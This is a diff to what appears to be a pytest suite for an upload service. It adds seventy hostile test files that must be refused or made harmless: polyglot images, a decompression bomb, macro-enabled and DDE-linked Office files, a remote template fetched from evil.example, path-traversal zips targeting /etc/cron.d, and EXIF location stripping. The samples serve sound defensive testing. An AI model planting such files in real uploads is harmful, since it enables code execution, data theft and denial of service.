@@ -1,4 +1,4 @@
-"""Thirty hostile files: each is refused with a sentence, or made harmless."""
+"""Seventy hostile files: each is refused with a sentence, or made harmless."""
 
 from __future__ import annotations
 
@@ -106,6 +106,42 @@ def hidden_script() -> bytes:
     return PDF.replace(b"trailer", obj + b"trailer")
 
 
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
+TEMPLATE = (
+    b'<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate"'
+    b' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def huge_jpeg() -> bytes:
+    data = bytearray(picture())
+    at = data.index(b"\xff\xc0") + 5  # height and width of the frame
+    data[at : at + 4] = struct.pack(">HH", 60000, 60000)
+    return bytes(data)
+
+
+def text_bomb() -> bytes:
+    body = b"Comment\0\0" + zlib.compress(b"\0" * 80_000_000)
+    chunk = struct.pack(">I", len(body)) + b"zTXt" + body
+    chunk += struct.pack(">I", zlib.crc32(b"zTXt" + body))
+    data = picture("PNG")
+    return data[:33] + chunk + data[33:]
+
+
+def macro_enabled(kind: str) -> bytes:
+    word = {"docx": b"document", "xlsx": b"sheet"}[kind]
+    types = b"application/vnd.ms-" + word + b".macroEnabled.main+xml"
+    part = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
+    return packed({"[Content_Types].xml": types, part: b"<x/>"})
+
+
+def locked_zip() -> bytes:
+    data = bytearray(packed({"a.txt": b"x"}))
+    data[6] |= 1  # the local head
+    data[data.index(b"PK\x01\x02") + 8] |= 1  # the directory
+    return bytes(data)
+
+
 REFUSED = {
     "html as jpg": ("a.jpg", HTML),
     "svg": ("a.svg", SVG),
@@ -145,6 +181,47 @@ REFUSED = {
     "null bytes as text": ("a.csv", b"a,b\x00c"),
     "not a zip": ("a.zip", b"PK\x03\x04" + b"\xff" * 100),
     "RTL program": ("gpj.\u202eexe.a.exe", b"MZ"),
+    "html as png": ("a.png", HTML),
+    "png head, then html": ("a.png", b"\x89PNG\r\n\x1a\n" + HTML),
+    "gif head, then script": ("a.png", b"GIF89a/*" + b"x" * 20 + b"*/=1;alert(1)"),
+    "bmp as png": ("a.png", picture("BMP")),
+    "tiff as jpg": ("a.jpg", picture("TIFF")),
+    "truncated png": ("a.png", picture("PNG")[:60]),
+    "truncated webp": ("a.webp", picture("WEBP")[:40]),
+    "huge jpeg": ("a.jpg", huge_jpeg()),
+    "png with a text bomb": ("a.png", text_bomb()),
+    "svgz": ("a.svgz", zlib.compress(SVG)),
+    "script": ("a.js", b"alert(1)"),
+    "hta": ("a.hta", HTML),
+    "shortcut": ("a.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00"),
+    "address file": ("a.url", b"[InternetShortcut]\r\nURL=file://x/y"),
+    "stream name": ("a.pdf::$DATA", PDF),
+    "name ending in dots": ("a.php. . .", b"<?php"),
+    "encrypted pdf": ("a.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root")),
+    "pdf with a file": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 1>>")),
+    "pdf with a form": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/AcroForm<</XFA 1 0 R>>")),
+    "pdf behind something": ("a.pdf", b"MZ" + b"\0" * 400 + PDF),
+    "old word document": ("a.docx", OLE),
+    "locked word document": ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le")),
+    "rtf as docx": ("a.docx", rb"{\rtf1{\object\objocx}}"),
+    "docm as docx": ("a.docx", macro_enabled("docx")),
+    "xlsm as xlsx": ("a.xlsx", macro_enabled("xlsx")),
+    "template from elsewhere": (
+        "a.docx",
+        office("docx", **{"word/_rels/settings.xml.rels": TEMPLATE}),
+    ),
+    "sheet that starts programs": (
+        "a.xlsx",
+        office("xlsx", **{"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}),
+    ),
+    "sheet with activex": ("a.xlsx", office("xlsx", **{"xl/activeX/activeX1.bin": b"x"})),
+    "zip with absolute names": ("a.zip", packed({"/etc/cron.d/x": b"x"})),
+    "zip with backslashes": ("a.zip", packed({"..\\..\\x.txt": b"x"})),
+    "zip with a drive": ("a.zip", packed({"C:\\x.txt": b"x"})),
+    "zip with too many": ("a.zip", packed({f"{n}.txt": b"" for n in range(5_001)})),
+    "locked zip": ("a.zip", locked_zip()),
+    "jar as zip": ("a.zip", packed({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe"})),
+    "zip with a page": ("a.zip", packed({"index.html": HTML})),
 }
 
 
@@ -190,6 +267,27 @@ def test_pictures_lose_what_is_not_picture(owner):
         assert rest not in body
     assert Image.open(io.BytesIO(body)).size == (40, 30)
     assert file.sha256 != file.sent_sha256
+
+
+@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP"])
+def test_no_picture_tells_where_it_was_taken(owner, image_format):
+    exif = Image.Exif()
+    exif[0x010E] = "taken at home"
+    place = exif.get_ifd(0x8825)
+    place[1], place[2] = "N", (34.0, 16.0, 5.0)
+    marks = (b"Exif", b"eXIf", b"EXIF", b"home")
+    sent = picture(image_format, exif=exif)
+    assert sum(mark in sent for mark in marks) >= 2
+    ending = image_format.lower().replace("jpeg", "jpg")
+    kept = response(owner, send(owner, f"a.{ending}", sent)).getvalue()
+    assert not any(mark in kept for mark in marks)
+    assert not Image.open(io.BytesIO(kept)).getexif()
+
+
+def test_links_a_reader_clicks_and_templates_of_the_own_disk_are_taken(owner):
+    links = TEMPLATE.replace(b"https://evil.example/t.dotm", b"file:///C:\\x\\Normal.dotm")
+    links += b'<Relationship Type="http://x/hyperlink" Target="https://a.example" Id="h"/>'
+    assert send(owner, "a.docx", office("docx", **{"word/_rels/document.xml.rels": links}))
 
 
 def response(owner: Notice, file: StoredFile, user_id: int | None = None):
